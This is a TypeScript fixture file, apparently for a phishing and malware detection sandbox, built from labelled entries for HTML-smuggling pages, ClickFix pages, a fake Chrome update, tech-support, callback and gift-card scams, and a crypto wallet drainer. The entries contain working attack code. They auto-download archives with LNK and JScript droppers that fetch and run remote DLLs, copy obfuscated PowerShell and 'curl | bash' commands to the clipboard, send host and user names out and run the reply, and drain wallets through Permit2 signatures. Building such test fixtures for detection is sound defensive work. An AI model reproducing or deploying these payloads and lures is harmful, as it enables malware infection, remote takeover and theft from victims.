import { htmlRoute, type Entry } from '../entry.js';
import { b64, beepWav, cfb, chunks, doc, DOCUSIGN_LOGO, fileRoute, iso, jsonRoute, jsRoute, lnk, MS_SQUARES, pe, rev, TEAMS_LOGO, tok, zip, ZOOM_LOGO } from '../parts/yo-kit.js';

// Payload deliveries: HTML attachments that smuggle archives and disk images, fake update pages,
// ClickFix instructions, and the scam pages (tech support, callback, gift cards, crypto drainers)
// the sandbox detonated from customer mail.

const psEnc = (cmd: string): string => Buffer.from(cmd, 'utf16le').toString('base64');

export const entries: Entry[] = [
(() => {
  const link = lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -w h -c "$p=$env:TEMP+\'\\q.dll\';iwr https://cdn-statics.bulkupdate-node.com/q.dll -o $p;rundll32 $p,DllRegisterServer"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe');
  const archive = zip([{ name: 'Scan_Remittance_4471.pdf.lnk', data: link }], { encrypted: true });
  const enc = rev(archive.toString('base64'));
  return {
    id: 'yo-smuggle-encrypted-zip-lnk',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://secure-remit.docsharehub.net/view/Remittance_4471.html',
    body: doc({
      title: 'Secure Document Delivery',
      css: `body{margin:0;background:#eceff1;font-family:Arial,sans-serif;color:#263238}.b{max-width:520px;margin:60px auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 2px 6px rgba(0,0,0,.12)}
.pw{font-family:Consolas,monospace;font-size:22px;background:#fff8e1;border:1px dashed #ffb300;padding:8px 14px;display:inline-block;margin:6px 0}
.btn{display:inline-block;background:#1565c0;color:#fff;padding:10px 20px;border-radius:4px;text-decoration:none;margin-top:12px}`,
      body: `<div class="b"><h2 style="margin-top:0">&#128274; Encrypted document</h2>
<p>The remittance you requested has been encrypted for your protection. Your download will begin automatically.</p>
<p>Archive password:</p><div class="pw">4471</div>
<p style="font-size:13px;color:#607d8b">Extract <b>Remittance_4471.zip</b> with the password above and open the document inside.</p>
<a class="btn" href="#" id="b">Download again</a></div>
<script>
var _r="${enc}";
function _s(x){return x.split("").reverse().join("")}
function _u(s){var r=atob(_s(s));var a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}
function dl(){var f=new File([_u(_r)],"Remittance_4471.zip",{type:"application/zip"});var l=document.createElement("a");l.href=URL.createObjectURL(f);l.download=f.name;document.body.appendChild(l);l.click();setTimeout(function(){URL.revokeObjectURL(l.href);l.remove()},500)}
window.addEventListener("load",function(){setTimeout(dl,700)});document.getElementById("b").onclick=function(e){e.preventDefault();dl()};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const dropper = `var sh=new ActiveXObject("WScript.Shell");var fso=new ActiveXObject("Scripting.FileSystemObject");
var p=sh.ExpandEnvironmentStrings("%APPDATA%")+"\\\\Microsoft\\\\scan.dll";
var x=new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");x.open("GET","https://scan-docs.cloud-node-cdn.com/s2/upd.bin",false);x.send();
if(x.status==200){var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(x.responseBody);s.SaveToFile(p,2);s.Close();sh.Run("rundll32.exe \\""+p+"\\",Start",0,false);}
sh.Run("cmd /c start https://acrobat.adobe.com",0,false);`;
  const archive = zip([{ name: 'Scan_10082024_Document.js', data: dropper }]);
  const parts = chunks(archive.toString('hex'), 96);
  return {
    id: 'yo-smuggle-zip-wsh-adobe',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://adobe-doccloud-share.pages.dev/scan/10082024',
    body: doc({
      title: 'Adobe Document Cloud',
      css: `body{margin:0;font-family:"Adobe Clean",Arial,sans-serif;background:#f5f5f5}.h{background:#fff;height:56px;display:flex;align-items:center;padding:0 24px;border-bottom:1px solid #e1e1e1;font-weight:700;gap:10px}
.h i{width:26px;height:26px;background:#eb1000;border-radius:4px;display:inline-block}.c{max-width:480px;margin:60px auto;background:#fff;border-radius:8px;padding:32px;text-align:center;box-shadow:0 1px 4px rgba(0,0,0,.1)}
.sp{width:36px;height:36px;border:4px solid #ddd;border-top-color:#1473e6;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
      body: `<div class="h"><i></i>Adobe Document Cloud</div><div class="c"><h2>Preparing your document</h2><div class="sp"></div>
<p>Scan_10082024_Document.zip &middot; 1 file</p><p style="font-size:13px;color:#6e6e6e">Your download should start shortly. Open the file to view the scanned document.</p></div>
<script>
var h=[${parts.map((p) => `"${p}"`).join(',')}].join("");
var a=new Uint8Array(h.length/2);for(var i=0;i<a.length;i++){a[i]=parseInt(h.substr(i*2,2),16)}
setTimeout(function(){var b=new Blob([a],{type:"application/x-zip-compressed"}),n="Scan_10082024_Document.zip";
if(navigator.msSaveBlob){navigator.msSaveBlob(b,n)}else{var l=document.createElement("a");l.download=n;l.href=URL.createObjectURL(b);l.click()}},1500);
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const inner = `$u='https://docusign-render.app-cdn.net/fix/wordonline.ps1';$f="$env:TEMP\\wo.ps1";Invoke-WebRequest $u -OutFile $f;powershell -ep bypass -w hidden -f $f`;
  const cmd = `powershell -nop -w hidden -EncodedCommand ${psEnc(inner)}`;
  return {
    id: 'yo-clickfix-docusign-render',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docusign-envelope.view-agreements.com/Signing/StartInSession.aspx?t=d1e4a7c2-55b9-4f0e-8a61-3b9e2c7f0d14',
    body: doc({
      title: 'DocuSign',
      css: `body{margin:0;background:#f0f0f0;font-family:"Helvetica Neue",Arial,sans-serif;color:#333}.hd{background:#fff;padding:12px 24px;border-bottom:1px solid #ddd}
.page{max-width:760px;height:900px;margin:20px auto;background:#fff;filter:blur(3px);box-shadow:0 0 8px rgba(0,0,0,.1)}
#e{position:fixed;top:110px;left:50%;transform:translateX(-50%);width:480px;background:#fff;border-top:4px solid #e2001a;box-shadow:0 8px 30px rgba(0,0,0,.3);padding:24px}
pre{background:#f6f6f6;border:1px solid #ddd;padding:8px;font-size:11px;white-space:pre-wrap;word-break:break-all;max-height:46px;overflow:hidden}
button{background:#4c00ff;color:#fff;border:0;border-radius:4px;padding:10px 20px;font-weight:700;cursor:pointer}`,
      body: `<div class="hd">${DOCUSIGN_LOGO}</div><div class="page"></div>
<div id="e"><h3 style="margin-top:0">Document could not be displayed</h3><p style="font-size:14px">The "Word Online" extension is not installed in your browser. To view the agreement, install the extension:</p>
<ol style="font-size:14px;line-height:1.8"><li>Click <b>How to fix</b> &ndash; the fix is copied to your clipboard</li><li>Right-click the Start button and choose <b>Windows PowerShell</b> (or <b>Terminal</b>)</li><li>Right-click inside the window to paste, then press <b>Enter</b></li><li>Refresh this page</li></ol>
<pre id="code">${cmd}</pre><button id="fx">How to fix</button></div>
<script>
document.getElementById("fx").onclick=function(){navigator.clipboard.writeText(document.getElementById("code").textContent).then(function(){document.getElementById("fx").textContent="Copied! Paste into PowerShell"})};
</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const sh = `curl -fsSL https://zoom-plugin-mac.com/install/audio.sh | bash`;
  const cmd = `echo ${b64(sh)} | base64 -d | bash`;
  return {
    id: 'yo-clickfix-macos-terminal-zoom',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://zoom-plugin-mac.com/join/84100277713',
    body: doc({
      title: 'Zoom Workplace for macOS',
      css: `body{margin:0;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",Arial,sans-serif;background:#f7f7f9;color:#1d1d1f}
.hd{height:60px;display:flex;align-items:center;padding:0 30px;background:#fff;border-bottom:1px solid #eee}.c{max-width:600px;margin:50px auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 4px 20px rgba(0,0,0,.06)}
.code{display:flex;gap:8px;margin:14px 0}.code input{flex:1;font-family:Menlo,monospace;font-size:12px;padding:10px;border:1px solid #d2d2d7;border-radius:8px;background:#f5f5f7}
.code button{background:#0b5cff;color:#fff;border:0;border-radius:8px;padding:0 16px;font-weight:600}ol{line-height:1.9}.k{background:#eee;border-radius:4px;padding:1px 6px;font-family:Menlo,monospace;font-size:13px}`,
      body: `<div class="hd">${ZOOM_LOGO}</div><div class="c"><h2 style="margin-top:0">Install the Zoom audio component to join</h2>
<p>Apple Silicon Macs running macOS Sonoma require an updated audio component to join this meeting. The installer runs in Terminal.</p>
<ol><li>Press <span class="k">&#8984; Command</span> + <span class="k">Space</span>, type <b>Terminal</b> and press <span class="k">Return</span></li><li>Copy the command below and paste it into Terminal</li><li>Press <span class="k">Return</span> and enter your Mac password when asked</li></ol>
<div class="code"><input id="c" readonly value="${cmd}"><button id="cp">Copy</button></div>
<p style="font-size:12px;color:#6e6e73">Meeting ID: 841 0027 7713 &middot; Host: Operations</p></div>
<script>document.getElementById("cp").onclick=function(){var i=document.getElementById("c");i.select();navigator.clipboard.writeText(i.value);this.textContent="Copied"};</script>`,
    }),
  } satisfies Entry;
})(),
(() => {
  const host = 'www.brookfieldorthopedics.com';
  const js = `(function(){var s=new ActiveXObject("WScript.Shell");var u="https://update-cdn.browserfix-node.com/b/";var id=s.ExpandEnvironmentStrings("%COMPUTERNAME%")+"-"+s.ExpandEnvironmentStrings("%USERNAME%");
var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("POST",u+"reg.php",false);h.send("id="+id+"&d="+s.ExpandEnvironmentStrings("%USERDOMAIN%"));eval(h.responseText);})();`;
  return {
    id: 'yo-fake-chrome-update-injected',
    label: 'malware',
    kind: 'fake-update',
    url: `https://${host}/patient-resources/new-patient-forms/`,
    routes: {
      [`${host}/patient-resources/new-patient-forms/`]: htmlRoute(
        doc({
          title: 'New Patient Forms | Brookfield Orthopedics &amp; Sports Medicine',
          css: `body{margin:0;font-family:Georgia,serif;color:#333}header{background:#0d3b66;color:#fff;padding:18px 40px;font-size:22px}main{max-width:800px;margin:30px auto;padding:0 20px;line-height:1.6}`,
          body: `<header>Brookfield Orthopedics &amp; Sports Medicine</header><main><h1>New Patient Forms</h1><p>Please complete the following forms before your first appointment and bring them with you, along with your insurance card and photo ID.</p>
<ul><li>Patient Registration Form (PDF)</li><li>Medical History Questionnaire (PDF)</li><li>HIPAA Acknowledgement (PDF)</li><li>Financial Policy (PDF)</li></ul><p>Questions? Call our front desk at (262) 555-0148, Monday&ndash;Friday 8am&ndash;5pm.</p></main>
<script src="/wp-content/plugins/wp-embed-helper/assets/min.js?ver=6.4.2"></script>`,
        }),
      ),
      [`${host}/wp-content/plugins/wp-embed-helper/assets/min.js`]: jsRoute(`;(function(){if(document.cookie.indexOf("_wpupd=")>-1||!/Windows/.test(navigator.userAgent))return;document.cookie="_wpupd=1;path=/;max-age=86400";
var o=document.createElement("div");o.style.cssText="position:fixed;inset:0;z-index:2147483647;background:#fff;font-family:Segoe UI,Arial,sans-serif;display:flex;align-items:center;justify-content:center";
o.innerHTML='<div style="max-width:520px;text-align:center"><div style="width:72px;height:72px;margin:0 auto 18px;border-radius:50%;background:conic-gradient(#ea4335 0 33%,#fbbc05 0 66%,#34a853 0);position:relative"><div style="position:absolute;inset:22px;background:#4285f4;border-radius:50%;border:4px solid #fff"></div></div><h1 style="font-weight:400;font-size:28px">An error occurred in Chrome</h1><p style="color:#5f6368">Your version of Chrome is out of date and cannot display this page. Download and install the critical update to continue browsing.</p><a id="_u" href="/wp-content/plugins/wp-embed-helper/assets/Chrome.Update.js" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;margin-top:14px">Update Chrome</a><p style="font-size:12px;color:#80868b;margin-top:18px">Recommended update: version 129.0.6668.90</p></div>';
document.body.appendChild(o);})();`),
      [`${host}/wp-content/plugins/wp-embed-helper/assets/Chrome.Update.js`]: fileRoute(js, 'application/octet-stream', 'Chrome.Update.js'),
    },
  } satisfies Entry;
})(),
(() => {
  const host = 'it-helpdesk-spamfilter.com';
  return {
    id: 'yo-helpdesk-spamfilter-exe',
    label: 'malware',
    kind: 'fake-it-support-download',
    url: `https://${host}/update/?ticket=INC0041877`,
    routes: {
      [`${host}/update/`]: htmlRoute(
        doc({
          title: 'IT Service Desk - Email Spam Filter Update',
          css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#eef1f4;color:#222}.h{background:#2d3e50;color:#fff;padding:14px 28px;font-size:18px}
.c{max-width:620px;margin:40px auto;background:#fff;padding:28px 34px;border-radius:4px}.tk{background:#f4f6f8;padding:10px 14px;font-family:Consolas,monospace;font-size:13px;border-left:3px solid #2d3e50}
.btn{display:inline-block;background:#2e7d32;color:#fff;padding:11px 24px;border-radius:3px;text-decoration:none;font-weight:600;margin-top:10px}`,
          body: `<div class="h">&#128736; IT Service Desk</div><div class="c"><h2 style="margin-top:0">Email protection update</h2>
<div class="tk">Ticket: INC0041877 &middot; Category: Spam / Junk mail flood &middot; Assigned: Service Desk Tier 2</div>
<p>We have detected a large volume of spam messages sent to your mailbox. As discussed on the phone with our technician, please install the updated spam filter agent on your workstation. It will clean up your inbox and block further messages.</p>
<ol><li>Click <b>Download update</b></li><li>Run <b>SpamFilterUpdate.exe</b> and accept the prompt</li><li>Tell the technician the 9-digit code shown after install</li></ol>
<a class="btn" href="/update/SpamFilterUpdate.exe">Download update</a></div>`,
        }),
      ),
      [`${host}/update/SpamFilterUpdate.exe`]: fileRoute(
        pe({ x64: true, size: 60000, strings: ['SpamFilter Agent Setup', 'AnyDesk', 'ad.anynet.relay', '--install "C:\\ProgramData\\AnyDesk" --start-with-win --silent', 'set_password', 'it-helpdesk-spamfilter.com/report'] }),
        'application/octet-stream',
        'SpamFilterUpdate.exe',
      ),
    },
  } satisfies Entry;
})(),
(() => {
  const host = 'windows-defender-alert.azurewebsites.net';
  return {
    id: 'yo-techsupport-defender-fullscreen',
    label: 'scam',
    kind: 'tech-support-scam',
    url: `https://${host}/Win0SecurityErr0x7fc/index.html?phone=18885550163&bcda=Y2FsbA`,
    routes: {
      [`${host}/Win0SecurityErr0x7fc/index.html`]: htmlRoute(
        doc({
          title: 'Windows Defender - Security Warning',
          css: `body{margin:0;background:#0067b8;font-family:"Segoe UI",Arial,sans-serif;color:#fff;overflow:hidden}
.top{background:#fff;color:#222;padding:6px 14px;font-size:13px;display:flex;gap:8px;align-items:center}.main{padding:30px 60px}
.main h1{font-weight:300;font-size:40px;margin:10px 0}.box{position:fixed;top:120px;left:50%;transform:translateX(-50%);width:560px;background:#fff;color:#222;box-shadow:0 0 0 9999px rgba(0,0,0,.35);border:1px solid #888}
.box .t{background:#d13438;color:#fff;padding:8px 14px;font-weight:600}.box .b{padding:18px 22px;font-size:14px;line-height:1.5}.ph{font-size:26px;font-weight:700;color:#d13438;text-align:center;margin:10px 0}
.box .f{background:#f0f0f0;padding:10px 16px;text-align:right}.box button{background:#0067b8;color:#fff;border:0;padding:7px 22px;margin-left:8px}`,
          body: `<div class="top">${MS_SQUARES} Windows Security</div>
<div class="main"><h1>Access to this PC has been blocked for security reasons</h1><p>Threat detected: Trojan:Win32/Wacatac.B!ml &nbsp;&middot;&nbsp; Spyware: Pegasus.Gen2 &nbsp;&middot;&nbsp; Status: Data at risk</p>
<p>Your computer has alerted us that it has been infected with a Trojan spyware. The following data has been compromised: Email credentials, Banking passwords, Facebook login, Pictures &amp; documents.</p></div>
<div class="box"><div class="t">&#9888; Windows Defender &ndash; Security Warning</div><div class="b"><b>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</b><br>
Closing this window will put your personal information at risk and lead to a suspension of your Windows Registration. Call Microsoft Support immediately:
<div class="ph" id="ph">+1-888-555-0163</div>Technical Support &ndash; Toll Free (USA/Canada) &middot; Agents available 24/7</div><div class="f"><button>Deny</button><button>Allow</button></div></div>
<audio id="a" src="/Win0SecurityErr0x7fc/alert.wav" autoplay loop></audio>
<script>
var p=new URLSearchParams(location.search).get("phone");if(p){document.getElementById("ph").textContent="+"+p[0]+"-"+p.substr(1,3)+"-"+p.substr(4,3)+"-"+p.substr(7)}
function lock(){var d=document.documentElement;(d.requestFullscreen||d.webkitRequestFullscreen||function(){}).call(d);if(navigator.keyboard&&navigator.keyboard.lock){navigator.keyboard.lock()}document.getElementById("a").play()}
document.addEventListener("click",lock);document.addEventListener("keydown",function(e){e.preventDefault();lock()});
window.onbeforeunload=function(){return "Your computer is at risk. Are you sure you want to leave?"};
history.pushState(null,"",location.href);window.onpopstate=function(){history.pushState(null,"",location.href)};
setInterval(function(){alert("Windows Security: Call +1-888-555-0163 immediately to unlock your PC.")},30000);
</script>`,
        }),
      ),
      [`${host}/Win0SecurityErr0x7fc/alert.wav`]: fileRoute(beepWav(4, 960), 'audio/wav'),
    },
  } satisfies Entry;
})(),
{
  id: 'yo-callback-m365-license-suspended',
  label: 'scam',
  kind: 'callback-scam',
  url: 'https://office365-billing-center.com/account/suspended?case=MS-88217-US',
  body: doc({
    title: 'Microsoft 365 - Subscription Suspended',
    css: `body{margin:0;background:#f3f2f1;font-family:"Segoe UI",Arial,sans-serif;color:#323130}.t{background:#fff;padding:12px 26px;border-bottom:1px solid #e1dfdd}
.c{max-width:640px;margin:40px auto;background:#fff;padding:30px 36px;border-top:4px solid #d13438}.ph{font-size:30px;font-weight:700;color:#0078d4;margin:8px 0}
table{width:100%;font-size:14px;border-collapse:collapse;margin:14px 0}td{padding:6px 0;border-bottom:1px solid #edebe9}`,
    body: `<div class="t">${MS_SQUARES}</div><div class="c"><h2 style="margin-top:0;color:#d13438">Your Microsoft 365 Business subscription has been suspended</h2>
<p>We were unable to process the renewal payment for your organization. Because of suspicious sign-in activity from <b>Lagos, Nigeria</b>, your mailbox and OneDrive data will be permanently deleted in <b>24 hours</b> unless the license is reactivated.</p>
<table><tr><td>Case number</td><td>MS-88217-US</td></tr><tr><td>Plan</td><td>Microsoft 365 Business Premium (25 seats)</td></tr><tr><td>Renewal amount</td><td>$549.99</td></tr><tr><td>Status</td><td style="color:#d13438">Suspended &ndash; action required</td></tr></table>
<p>To cancel the charge or reactivate, call the Microsoft Billing &amp; Security Department now:</p><div class="ph">&#128222; +1 (844) 555-0199</div>
<p style="font-size:13px;color:#605e5c">Have your case number ready. A certified technician will connect to your computer to secure your account.</p></div>`,
  }),
},
{
  id: 'yo-callback-geeksquad-renewal',
  label: 'scam',
  kind: 'callback-scam',
  url: 'https://geeksquad-renewals.invoice-dept.com/receipt/GS-7740128',
  body: doc({
    title: 'Invoice GS-7740128',
    css: `body{margin:0;background:#fff;font-family:Arial,sans-serif;color:#222}.inv{max-width:700px;margin:30px auto;border:1px solid #ddd;padding:30px}
.logo{display:inline-block;background:#000;color:#ff6a13;font-weight:900;padding:6px 12px;font-size:22px;transform:skew(-8deg)}
table{width:100%;border-collapse:collapse;margin:20px 0;font-size:14px}th,td{border:1px solid #ddd;padding:8px;text-align:left}th{background:#f4f4f4}
.cta{background:#fff4e5;border:1px solid #f0b450;padding:14px;font-size:15px}`,
    body: `<div class="inv"><span class="logo">GEEK SQUAD</span><h2>Order Confirmation &ndash; Auto Renewal</h2>
<p>Dear Customer,<br>Thank you for renewing your Geek Squad Total Tech Protection. Your payment has been processed successfully and will appear on your statement within 24 hours.</p>
<table><tr><th>Invoice #</th><th>Product</th><th>Term</th><th>Amount</th></tr><tr><td>GS-7740128</td><td>Total Tech Protection &ndash; 3 Devices</td><td>2 Years</td><td>$399.99</td></tr></table>
<p>Payment method: Auto debit &nbsp;&middot;&nbsp; Date: 10/07/2024</p>
<div class="cta">If you did not authorize this renewal or wish to cancel and receive a full refund, contact our billing department within 24 hours: <b>+1 (808) 555-0142</b></div>
<p style="font-size:12px;color:#777;margin-top:20px">&copy; 2024 Geek Squad Services. All rights reserved.</p></div>`,
  }),
},
{
  id: 'yo-giftcard-ceo-urgent-task',
  label: 'scam',
  kind: 'gift-card-fraud',
  url: 'https://exec-office.lakeshoremfg-corp.com/tasks/confidential?from=ceo',
  body: doc({
    title: 'Confidential Task - Office of the CEO',
    css: `body{margin:0;background:#f5f6f8;font-family:"Segoe UI",Arial,sans-serif;color:#222}.c{max-width:560px;margin:40px auto;background:#fff;border-radius:6px;padding:28px 32px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
.m{background:#f1f5fb;border-radius:6px;padding:14px;font-size:14px;line-height:1.5;margin-bottom:18px}
label{font-size:13px;font-weight:600;display:block;margin:10px 0 4px}input,select{width:100%;box-sizing:border-box;height:38px;border:1px solid #bbb;border-radius:4px;padding:0 10px}
.row{display:grid;grid-template-columns:2fr 1fr;gap:10px}button{width:100%;height:42px;border:0;border-radius:4px;background:#1f3a60;color:#fff;font-weight:600;margin-top:18px}`,
    body: `<div class="c"><div style="font-size:12px;color:#888">LAKESHORE MANUFACTURING &middot; OFFICE OF THE CEO</div><h2 style="margin:6px 0 14px">Confidential task</h2>
<div class="m"><b>From: Michael Brandt, CEO</b><br>I'm in back-to-back meetings with the board and can't take calls. I want to surprise some of our staff with gift cards today. Please purchase <b>8 Apple gift cards at $200 each</b>, scratch the back and submit the codes below. Keep this between us for now &ndash; I'll make sure you're reimbursed by end of day.</div>
<form id="g" method="post" action="/tasks/submit"><div id="rows"></div><button type="button" id="add" style="background:#e8ecf2;color:#1f3a60">+ Add another card</button>
<label>Your name</label><input name="name" required><button type="submit">Submit codes to Michael</button></form></div>
<script>
var n=0;function addRow(){n++;var d=document.createElement("div");d.className="row";d.innerHTML='<div><label>Card '+n+' code</label><input name="code'+n+'" placeholder="X1234567890ABCDE"></div><div><label>Amount</label><select name="amt'+n+'"><option>$200</option><option>$100</option><option>$500</option></select></div>';document.getElementById("rows").appendChild(d)}
for(var i=0;i<3;i++)addRow();document.getElementById("add").onclick=addRow;
</script>`,
  }),
},
(() => {
  const host = 'drop.zksync-foundation.net';
  const drainer = `(function(){
var CFG={recv:"0x5cB8e8E0f5A1c6f2d0b17dA7d1E9a3F4aB6Cd0e2",permit2:"0x000000000022D473030F116dDEE9F6B43aC78BA3",api:"/api/v1",min:0.002};
var btn=document.getElementById("claim"),st=document.getElementById("status");
function log(ev,d){return fetch(CFG.api+"/log",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({ev:ev,d:d,h:location.host})}).catch(function(){})}
async function run(){
 if(!window.ethereum){st.textContent="No wallet detected. Please open this page in MetaMask or Trust Wallet browser.";return}
 btn.disabled=true;st.textContent="Connecting...";
 var acc=(await ethereum.request({method:"eth_requestAccounts"}))[0];log("connect",{a:acc});
 var chain=await ethereum.request({method:"eth_chainId"});
 if(chain!=="0x144"){try{await ethereum.request({method:"wallet_switchEthereumChain",params:[{chainId:"0x1"}]})}catch(e){}}
 var assets=await (await fetch(CFG.api+"/assets?address="+acc)).json();
 st.textContent="Checking eligibility...";
 var toks=(assets.tokens||[]).sort(function(a,b){return b.usd-a.usd});
 if(toks.length){
   var now=Math.floor(Date.now()/1e3);
   var msg={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},
     primaryType:"PermitBatch",domain:{name:"Permit2",chainId:1,verifyingContract:CFG.permit2},
     message:{details:toks.map(function(t){return{token:t.address,amount:"1461501637330902918203684832716283019655932542975",expiration:String(now+31536000),nonce:"0"}}),spender:CFG.recv,sigDeadline:String(now+86400)}};
   st.textContent="Sign the message in your wallet to verify ownership...";
   var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[acc,JSON.stringify(msg)]});
   log("permit2",{a:acc,s:sig,m:msg.message});
 }
 var bal=parseInt(await ethereum.request({method:"eth_getBalance",params:[acc,"latest"]}),16)/1e18;
 if(bal>CFG.min){var v="0x"+Math.floor((bal-0.0015)*1e18).toString(16);
   st.textContent="Confirm the claim transaction...";
   var tx=await ethereum.request({method:"eth_sendTransaction",params:[{from:acc,to:CFG.recv,value:v,data:"0x"}]});log("native",{a:acc,tx:tx})}
 st.textContent="Claim submitted! Your ZK tokens will arrive within 24 hours.";
}
btn.addEventListener("click",function(){run().catch(function(e){btn.disabled=false;st.textContent="Request rejected. Please try again.";log("err",{m:String(e&&e.message)})})});
})();`;
  return {
    id: 'yo-drainer-zksync-airdrop-permit2',
    label: 'cryptodrainer',
    kind: 'wallet-drainer',
    url: `https://${host}/claim/season-2`,
    routes: {
      [`${host}/claim/season-2`]: htmlRoute(
        doc({
          title: 'ZKsync | Season 2 Airdrop Claim',
          css: `body{margin:0;background:#0b0b1e;color:#fff;font-family:Inter,Arial,sans-serif}.n{display:flex;justify-content:space-between;padding:20px 40px}.h{max-width:560px;margin:60px auto;text-align:center}
.h h1{font-size:44px;margin:0 0 12px;background:linear-gradient(90deg,#8c8dfc,#1e69ff);-webkit-background-clip:text;color:transparent}.card{background:#161638;border:1px solid #2b2b5e;border-radius:16px;padding:26px;margin-top:26px}
button{background:#1e69ff;color:#fff;border:0;border-radius:12px;padding:14px 30px;font-size:16px;font-weight:700;cursor:pointer;width:100%}.s{font-size:13px;color:#a6a6d6;margin-top:14px;min-height:18px}
.stats{display:flex;justify-content:space-around;margin:22px 0;font-size:13px;color:#a6a6d6}.stats b{display:block;color:#fff;font-size:22px}`,
          body: `<div class="n"><b>&#9670; ZKsync</b><span style="color:#a6a6d6">Ecosystem &middot; Docs &middot; Bridge</span></div>
<div class="h"><h1>Season 2 Airdrop is live</h1><p>Early users, builders and liquidity providers of the ZKsync Era ecosystem are eligible for the second distribution of ZK tokens.</p>
<div class="stats"><div><b>3.4B</b>ZK allocated</div><div><b id="left">72%</b>claimed</div><div><b id="tm">11:42:05</b>remaining</div></div>
<div class="card"><button id="claim">Connect wallet &amp; claim</button><div class="s" id="status"></div></div></div>
<script src="/static/claim.min.js" defer></script>
<script>var t=42125;setInterval(function(){t--;var h=Math.floor(t/3600),m=Math.floor(t%3600/60),s=t%60;document.getElementById("tm").textContent=h+":"+("0"+m).slice(-2)+":"+("0"+s).slice(-2)},1000)</script>`,
        }),
      ),
      [`${host}/static/claim.min.js`]: jsRoute(drainer),
      [`${host}/api/v1/assets`]: jsonRoute({ tokens: [{ address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', symbol: 'USDT', usd: 1820.4 }, { address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', symbol: 'USDC', usd: 904.1 }] }),
    },
  } satisfies Entry;
})(),
];
